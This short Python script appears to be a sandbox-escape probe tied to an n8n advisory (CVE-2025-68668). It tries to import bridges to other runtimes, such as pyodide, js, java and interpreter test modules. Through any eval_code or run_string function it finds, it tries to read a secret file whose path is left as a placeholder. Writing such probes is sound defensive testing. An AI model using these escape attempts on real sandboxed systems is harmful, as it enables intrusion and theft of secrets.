# Looks for the bridges of other runtimes: pyodide, js, java, the interpreter's own tests.
# advisory: CVE-2025-68668 (n8n)
print("ATTEMPTED")
for name in (
    "_pyodide._base", "pyodide", "pyodide.code", "js", "_pyodide_core", "java", "java.lang", "clr",
    "polyglot", "__pypy__", "_testcapi", "_testinternalcapi", "_xxsubinterpreters", "_interpreters",
    "_rustpython", "__rustpython__", "rustpython", "browser", "_browser",
):
    try:
        module = __import__(name, fromlist=["x"])
    except Exception as error:
        print(name, type(error).__name__)
        continue
    reach(module)
    run = getattr(module, "eval_code", None) or getattr(module, "run_string", None)
    if run:
        print(run("open('@SECRET_PATH@').read()"))
